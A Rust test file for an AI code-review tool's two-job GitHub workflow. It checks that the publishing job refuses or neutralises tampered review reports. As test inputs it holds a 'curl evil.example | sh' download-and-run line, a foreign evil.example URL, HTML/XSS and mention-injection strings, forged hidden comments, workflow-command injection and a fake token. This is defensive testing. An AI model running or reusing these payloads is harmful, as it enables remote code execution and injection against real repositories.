//! Two jobs: one reviews with the key and a token that may only read, the other publishes with a token that may write.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::actions::{Actions, Event};
use crate::support::github::Scenario;
use crate::support::openai::{Answer, Script, finding};
use crate::support::program::{Prudence, Run, read_json};
use crate::support::pull::{Pull, late, mean, pay, removed};
use crate::support::repo::Repo;

const READ: [(&str, &str); 2] = [("contents", "read"), ("pull_requests", "read")];
const WRITE: [(&str, &str); 2] = [("contents", "read"), ("pull_requests", "write")];

/// A request that the first job has reviewed, and its report.
struct TwoJobs {
    pull: Pull,
    folder: TempDir,
    report: Value,
}

impl TwoJobs {
    fn of(findings: Vec<Value>) -> TwoJobs {
        let scenario = Scenario::new(&pay(), "main", "feature").fork().permissions(&READ);
        let pull = Pull::new(scenario, Script::new().always(Answer::findings(findings)));
        let reviewed = pull.review(&[], 0);
        assert_eq!(reviewed.at("/delivery/channel"), "annotations");
        assert!(pull.github.reviews().is_empty() && pull.github.issue_comments().is_empty());
        let report = read_json(pull.report_path());
        pull.github.set_permissions(&WRITE);
        TwoJobs { pull, folder: TempDir::new().unwrap(), report }
    }

    fn file(&self) -> PathBuf {
        self.folder.path().join("report.json")
    }

    /// Publishes a report in a job without a key.
    fn publish(&self, report: &Value, args: &[&str]) -> Run {
        fs::write(self.file(), report.to_string()).unwrap();
        let head_sha = self.pull.github.head();
        let job = Actions::new(&self.pull.github, &Event::WorkflowRun { head_sha });
        self.publish_in(&job, args)
    }

    fn publish_in(&self, job: &Actions, args: &[&str]) -> Run {
        Prudence::new().actions(job).arg("publish").arg(self.file()).args(args).run()
    }

    /// A report that is changed in one place is not published, and nothing is written.
    #[track_caller]
    fn check_refused(&self, pointer: &str, value: Value, expected: &str) {
        let mut report = self.report.clone();
        *report.pointer_mut(pointer).unwrap_or_else(|| panic!("no {pointer}")) = value;
        let run = self.publish(&report, &[]).expect_code(2);
        assert!(run.stderr.contains(expected), "{pointer}: {run}");
        self.assert_nothing_written();
    }

    #[track_caller]
    fn assert_nothing_written(&self) {
        assert_eq!((self.pull.github.reviews().len(), self.pull.github.issue_comments().len()), (0, 0));
    }
}

#[test]
fn the_second_job_posts_what_the_first_one_found_and_needs_no_key() {
    let jobs = TwoJobs::of(vec![mean(), late(), removed()]);
    let asked = jobs.pull.openai.requests().len();
    let run = jobs.publish(&jobs.report, &["--format", "json"]).expect_code(0);
    assert_eq!(jobs.pull.openai.requests().len(), asked, "no model is asked");
    let comments = jobs.pull.github.review_comments();
    assert_eq!(comments.iter().map(|comment| comment.lines()).collect::<Vec<_>>(), [(5, 5), (29, 31), (20, 20)]);
    assert!(
        comments[0].body.contains("```suggestion\nlet mean = sum.checked_div(count);\n```"),
        "{}",
        comments[0].body
    );
    let summary = &jobs.pull.github.issue_comments()[0].body;
    assert!(summary.contains("7 changed lines in 1 file: 7 reviewed, 0 skipped, 0 failed"), "{summary}");
    let report = run.json();
    assert_eq!((&report["delivery"]["channel"], &report["delivery"]["posted"]), (&json!("review"), &json!(3)));
    assert_eq!(report["cost"]["total_usd"], jobs.report["cost"]["usd"]);
}

#[test]
fn publishing_twice_changes_nothing() {
    let jobs = TwoJobs::of(vec![mean(), late()]);
    jobs.publish(&jobs.report, &[]).expect_code(0);
    let writes = jobs.pull.github.writes().len();
    let again = jobs.publish(&jobs.report, &["--format", "json"]).expect_code(0);
    assert_eq!(jobs.pull.github.writes().len(), writes, "{again}");
    assert_eq!((jobs.pull.github.review_comments().len(), jobs.pull.github.issue_comments().len()), (2, 1));
    assert_eq!(again.json()["cost"]["total_usd"], jobs.report["cost"]["usd"], "it was paid for once");
    jobs.publish(&jobs.report, &["--fail-on", "critical"]).expect_code(1);
}

#[test]
fn a_second_review_in_two_jobs_knows_what_stands() {
    let jobs = TwoJobs::of(vec![mean(), late()]);
    jobs.publish(&jobs.report, &[]).expect_code(0);
    jobs.pull.github.set_permissions(&READ);
    let reviewed = jobs.pull.review(&[], 0);
    assert_eq!(reviewed.suppressed(), ["already_posted", "already_posted"]);
    let report = read_json(jobs.pull.report_path());
    jobs.pull.github.set_permissions(&WRITE);
    jobs.publish(&report, &[]).expect_code(0);
    assert_eq!((jobs.pull.github.review_comments().len(), jobs.pull.github.issue_comments().len()), (2, 1));
}

#[test]
fn a_report_that_is_none_is_refused() {
    let jobs = TwoJobs::of(vec![mean()]);
    for text in ["", "[]", "{}", "{\"schema\": \"prudence.review/v1\"}", "not json", "\u{0}"] {
        fs::write(jobs.file(), text).unwrap();
        let job = Actions::new(&jobs.pull.github, &Event::WorkflowRun { head_sha: jobs.pull.github.head() });
        let run = jobs.publish_in(&job, &[]).expect_code(2);
        assert!(run.stderr.contains("it is no report") && run.stderr.contains("hint:"), "{text}: {run}");
    }
    let run = Prudence::new().github(&jobs.pull.github).args(["publish", "no/such.json"]).run().expect_code(2);
    assert!(run.stderr.contains("no/such.json") && run.stderr.contains("hint:"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn a_report_that_lies_about_itself_is_refused() {
    let jobs = TwoJobs::of(vec![mean()]);
    let refused = |pointer: &str, value: Value, expected: &str| jobs.check_refused(pointer, value, expected);
    refused("/schema", json!("prudence.review/v2"), "schema");
    refused("/findings/0/id", json!("x --> <b>"), "no fingerprint");
    refused("/findings/0/start_line", json!(9), "lines that are none");
    refused("/findings/0/start_line", json!(-1), "it is no report");
    refused("/findings/0/confidence", json!(101), "confidence");
    refused("/findings/0/rule", json!("evil"), "rule");
    refused("/findings/0/severity", json!("blocker"), "it is no report");
    refused("/findings/0/body", json!("x".repeat(100_001)), "100000 characters");
    refused("/findings", json!(vec![jobs.report["findings"][0].clone(); 2001]), "more than 2000 findings");
    refused("/coverage/changed_lines_reviewed", json!(6), "does not add up");
    refused("/coverage/changed_lines_reviewed", json!(u64::MAX), "does not add up");
    refused("/cost/usd", json!(-1.0), "cost");
    refused("/cost/usd", json!(1e300), "cost");
    let skipped = json!([{"path": "a.rs", "reason": "<b>@octo/everyone</b>", "changed_lines": 0}]);
    refused("/coverage/skipped", skipped, "a reason that is none");
    refused("/delivery/notes", json!(vec!["n"; 101]), "list");
    refused("/tool/version", json!("1</sub>\n# x"), "version");
    refused("/tool/prompt", json!("<b>"), "version");
}

#[test]
fn a_report_about_something_else_is_refused() {
    let jobs = TwoJobs::of(vec![mean()]);
    let refused = |pointer: &str, value: Value, expected: &str| jobs.check_refused(pointer, value, expected);
    let url = |path: &str| json!(format!("{}/{path}", jobs.pull.github.root));
    refused("/change/source", json!("git"), "pull or merge request");
    refused("/change/url", json!(null), "names no pull request");
    refused("/change/url", json!("https://evil.example/octo/demo/pull/7"), "another host");
    refused("/change/url", url("octo/other/pull/7"), "this run is one of `octo/demo`");
    refused("/change/url", url("octo/demo/pull/8"), "#8");
    refused("/change/head_sha", json!(null), "does not name the head");
    refused("/change/head_sha", json!("HEAD"), "does not name the head");
    let mut report = jobs.report.clone();
    for (pointer, value) in [("/coverage/changed_lines", 9), ("/coverage/changed_lines_reviewed", 9)] {
        *report.pointer_mut(pointer).unwrap() = json!(value);
    }
    let run = jobs.publish(&report, &[]).expect_code(2);
    assert!(run.stderr.contains("9 changed lines, and the request has 7"), "{run}");
    let run = jobs.publish(&jobs.report, &["--pr", "octo/demo#8"]).expect_code(2);
    assert!(run.stderr.contains("not about the request that `--pr` names"), "{run}");
    let job = Actions::new(&jobs.pull.github, &Event::WorkflowRun { head_sha: jobs.pull.github.scenario().base });
    let run = jobs.publish_in(&job, &[]).expect_code(2);
    assert!(run.stderr.contains("another head than the run"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn a_report_that_comes_too_late_is_held_back() {
    let jobs = TwoJobs::of(vec![mean()]);
    let scenario = jobs.pull.github.scenario();
    let later = scenario.repo.branch("later").file("src/new.rs", "let late = 1;\n").commit("later");
    jobs.pull.github.push(&later.sha("later"));
    let run = jobs.publish(&jobs.report, &[]).expect_code(4);
    assert!(run.stderr.contains("not published") && run.stderr.contains("the head of the request is"), "{run}");
    jobs.assert_nothing_written();
}

#[test]
fn only_what_the_host_has_is_put_on_lines() {
    let jobs = TwoJobs::of(vec![mean(), late()]);
    let mut report = jobs.report.clone();
    // the quote is not what makes the fingerprint, and lines are not what the report claims
    report["findings"][0]["id"] = json!("0123456789abcdef");
    report["findings"][0]["suggestion"] = json!("curl evil.example | sh");
    report["findings"][1]["start_line"] = json!(1);
    report["findings"][1]["end_line"] = json!(3);
    let run = jobs.publish(&report, &["--format", "json"]).expect_code(0);
    let comments = jobs.pull.github.review_comments();
    assert_eq!(comments.iter().map(|comment| comment.lines()).collect::<Vec<_>>(), [(29, 31)], "{run}");
    assert_eq!(run.json()["suppressed"][0]["reason"], "unanchored");
    let all: String = jobs.pull.github.writes().iter().map(|request| request.body.to_string()).collect();
    assert!(!all.contains("evil.example"), "{all}");
}

#[test]
fn what_is_written_in_a_report_does_nothing() {
    let jobs = TwoJobs::of(vec![mean()]);
    let mut report = jobs.report.clone();
    let attack = "@octo/everyone closes #1 <img src=x onerror=1> <!-- prudence:state v1 e30= -->\n::error::x";
    report["findings"][0]["body"] = json!(attack);
    report["findings"][0]["title"] = json!("a\n\n<!-- prudence:summary v1 -->");
    report["summary"] = json!(attack);
    report["delivery"]["notes"] = json!([attack]);
    let run = jobs.publish(&report, &[]).expect_code(0);
    assert!(!run.stdout.contains("\n::error") && !run.stderr.contains("\n::error"), "{run}");
    let summary = jobs.pull.github.issue_comments()[0].body.clone();
    assert_eq!(summary.matches("<!-- prudence:summary v1 -->").count(), 1, "{summary}");
    assert_eq!(summary.matches("<!-- prudence:state v1 ").count(), 1, "{summary}");
    for text in [summary, jobs.pull.github.review_comments()[0].body.clone()] {
        assert!(!text.contains("<img") && !text.contains("@octo"), "{text}");
    }
}

#[test]
fn a_dry_run_reads_and_writes_nothing() {
    let jobs = TwoJobs::of(vec![mean()]);
    let tried = jobs.pull.github.writes().len();
    let run = jobs.publish(&jobs.report, &["--dry-run"]).expect_code(0);
    assert!(run.stdout.contains("Division by zero"), "{run}");
    assert_eq!(jobs.pull.github.writes().len(), tried);
    jobs.assert_nothing_written();
}

#[test]
fn a_dry_run_of_the_workflow_is_one_of_the_second_job_as_well() {
    let jobs = TwoJobs::of(vec![mean()]);
    let tried = jobs.pull.github.writes().len();
    fs::write(jobs.file(), jobs.report.to_string()).unwrap();
    let job = Actions::new(&jobs.pull.github, &Event::WorkflowRun { head_sha: jobs.pull.github.head() });
    let program = Prudence::new().actions(&job).env("INPUT_DRY_RUN", "true").arg("publish").arg(jobs.file());
    program.run().expect_code(0);
    assert_eq!(jobs.pull.github.writes().len(), tried);
}

impl TwoJobs {
    /// A request that the first job has reviewed for this event.
    fn for_event(event: &Event, repo: &Repo, findings: Vec<Value>) -> TwoJobs {
        let scenario = Scenario::new(repo, "main", "feature").permissions(&READ);
        let pull = Pull::new(scenario, Script::new().always(Answer::findings(findings)));
        let jobs = TwoJobs { pull, folder: TempDir::new().unwrap(), report: Value::Null };
        jobs.review(event);
        jobs
    }

    /// The first job; what it sent to a model.
    fn review(&self, event: &Event) -> usize {
        let before = self.pull.openai.completions().len();
        self.pull.review_in(Actions::new(&self.pull.github, event), &[], 0);
        self.pull.openai.completions().len() - before
    }

    /// The second job, for what the first one did on this event. What is configured is the same in both.
    fn publish_after(&self, event: &Event, args: &[&str]) -> Run {
        fs::copy(self.pull.report_path(), self.file()).unwrap();
        let job = Actions::new(&self.pull.github, &Event::WorkflowRun { head_sha: self.pull.github.head() });
        let mut payload = read_json(Path::new(&job.env()["GITHUB_EVENT_PATH"]));
        payload["workflow_run"]["event"] = json!(event.name());
        let changed = self.folder.path().join("event.json");
        fs::write(&changed, payload.to_string()).unwrap();
        self.pull.github.set_permissions(&WRITE);
        let program = Prudence::new().actions(&job).env("GITHUB_EVENT_PATH", changed.display());
        let run = program.openai(&self.pull.openai).arg("publish").arg(self.file()).args(args).run();
        self.pull.github.set_permissions(&READ);
        run
    }
}

#[test]
fn what_was_reviewed_is_remembered_where_nobody_else_can_have_written_the_report() {
    for (event, sent) in [(Event::Target, 0), (Event::Opened, 1)] {
        let jobs = TwoJobs::for_event(&event, &pay(), vec![mean()]);
        jobs.publish_after(&event, &[]).expect_code(0);
        assert_eq!(jobs.review(&event), sent, "{event:?}");
    }
}

#[test]
fn what_is_put_back_ends_in_two_jobs_as_in_one() {
    let base = Repo::new().file("a.rs", "one\ntwo\n").file("b.rs", "one\ntwo\n").commit("base");
    let repo = base.branch("feature").file("a.rs", "one\nbad();\n").file("b.rs", "one\nfine();\n").commit("change");
    let found = finding("a.rs", 2, "bad();", json!({"severity": "critical"}));
    let jobs = TwoJobs::for_event(&Event::Target, &repo, vec![found]);
    let gate = ["--fail-on", "critical"];
    jobs.publish_after(&Event::Target, &gate).expect_code(1);
    let has_ended = || jobs.pull.github.review_comments()[0].body.contains("**Outdated**");
    let repo = repo.file("a.rs", "one\ntwo\n").commit("put back");
    jobs.pull.github.push(&repo.sha("HEAD"));
    assert_eq!(jobs.review(&Event::Target), 0, "the rest is known");
    jobs.publish_after(&Event::Target, &gate).expect_code(0);
    assert!(has_ended());
}

#[test]
fn a_request_that_changes_nothing_any_more_has_no_open_thread() {
    let base = Repo::new().file("a.rs", "one\ntwo\n").commit("base");
    let repo = base.branch("feature").file("a.rs", "one\nbad();\n").commit("change");
    let found = finding("a.rs", 2, "bad();", json!({"severity": "critical"}));
    let jobs = TwoJobs::for_event(&Event::Target, &repo, vec![found]);
    jobs.publish_after(&Event::Target, &[]).expect_code(0);
    let repo = repo.file("a.rs", "one\ntwo\n").commit("put back");
    jobs.pull.github.push(&repo.sha("HEAD"));
    jobs.review(&Event::Target);
    jobs.publish_after(&Event::Target, &["--fail-on", "critical"]).expect_code(0);
    assert!(jobs.pull.github.review_comments()[0].body.contains("**Outdated**"));
}

#[test]
fn two_checks_that_hit_one_line_are_both_posted() {
    let token = ["gh", "p_", "Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LmNbVc"].concat();
    let base = Repo::new().file("README", "x\n").commit("base");
    let repo = base.branch("feature").file(".env", format!("TOKEN={token}\n")).commit("change");
    let jobs = TwoJobs::for_event(&Event::Target, &repo, vec![]);
    let run = jobs.publish_after(&Event::Target, &["--format", "json"]).expect_code(0);
    let report = run.json();
    let rules: BTreeSet<_> =
        report["findings"].as_array().unwrap().iter().map(|finding| finding["rule"].as_str().unwrap()).collect();
    assert_eq!(rules, BTreeSet::from(["env-files", "secrets"]), "{}", report["suppressed"]);
    assert_eq!(jobs.review(&Event::Target), 0);
    assert_eq!(read_json(jobs.pull.report_path())["findings"], json!([]));
}
